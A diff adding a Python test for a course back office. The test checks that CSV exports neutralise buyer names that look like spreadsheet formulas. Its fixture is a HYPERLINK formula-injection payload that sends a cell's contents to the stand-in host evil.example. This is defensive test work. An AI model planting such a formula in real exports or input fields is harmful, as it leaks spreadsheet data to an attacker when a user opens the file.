@@ -193,3 +193,29 @@ def test_site_settings_refuse_a_gstin_of_another_state_or_a_bad_check_digit(
     assert "check digit" in back_office_client.post(url, data).content.decode()
     assert site_settings_row().gstin == "29AAGCB7383J1Z4"
     assert Enrolment.objects.count() == 0
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+
+
+def test_a_buyer_named_like_a_formula_is_written_as_text_in_every_export(
+    seller: None, course: Course, staff: User, back_office_client: Client
+) -> None:
+    """Issue 40.5: such a name was a live formula in the register, b2b and cdnr files."""
+    with time_machine.travel(MAY, tick=False):
+        business = confirmed(
+            course, phone="98111 00041", name=EVIL, gstin=BUYER_GSTIN, business_name=EVIL
+        )
+        confirmed(course, phone="98111 00042", name="-Ravi")
+        services.enrolment_reject(enrolment_id=business.pk, by=staff, reason="Refunded")
+
+    register = export(back_office_client, "register")
+    names = {line[5] for line in register[1:-1]} | {line[6] for line in register[1:-1]}
+    assert f"'{EVIL}" in names and "'-Ravi" in names and EVIL not in names
+    # Amounts stay numbers: the credit note's negative total is not neutralised.
+    [note] = [line for line in register[1:-1] if line[2] == "Credit note"]
+    assert note[-1].startswith("-") and Decimal(note[-1]) < 0
+    [b2b] = export(back_office_client, "b2b")[1:]
+    assert b2b[1] == f"'{EVIL}"
+    [cdnr] = export(back_office_client, "cdnr")[1:]
+    assert cdnr[1] == f"'{EVIL}"
